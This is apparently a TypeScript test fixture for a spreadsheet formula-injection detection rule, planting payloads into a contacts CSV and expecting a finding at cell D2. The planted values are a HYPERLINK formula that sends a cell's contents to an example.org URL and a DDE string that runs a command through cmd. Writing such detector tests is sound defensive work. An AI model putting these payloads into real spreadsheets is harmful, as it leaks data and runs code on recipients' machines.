import { definePlant, textOf, withFile, type Plant } from '@preflag/testing';

export const formulaInjectionPlant: Plant = definePlant({
  rule: 'spreadsheet/formula-injection',
  clean: () => ({ files: { 'contacts.csv': 'name,phone,change,note\nAnn,+41 44 123,-5,@ann\nBob,+1 (555) 01,+2.5,- none -\n' } }),
  ways: {
    'a link that sends data': (clean) => plant(clean, '"=HYPERLINK(""https://example.org/?""&A2,""open"")"'),
    'a call of another program': (clean) => plant(clean, "=cmd|'/c calc'!A0"),
  },
});

function plant(clean: Parameters<Plant['ways'][string]>[0], note: string): ReturnType<Plant['ways'][string]> {
  const path = Object.keys(clean.files).find((name) => name.endsWith('.csv'));
  const text = path === undefined ? '' : textOf(clean, path);
  const changed = text.replace('@ann', () => note);
  return path === undefined || changed === text
    ? undefined
    : { example: withFile(clean, path, changed), findings: [{ messageId: 'formula', file: path, at: { kind: 'cell', range: 'D2' } }] };
}
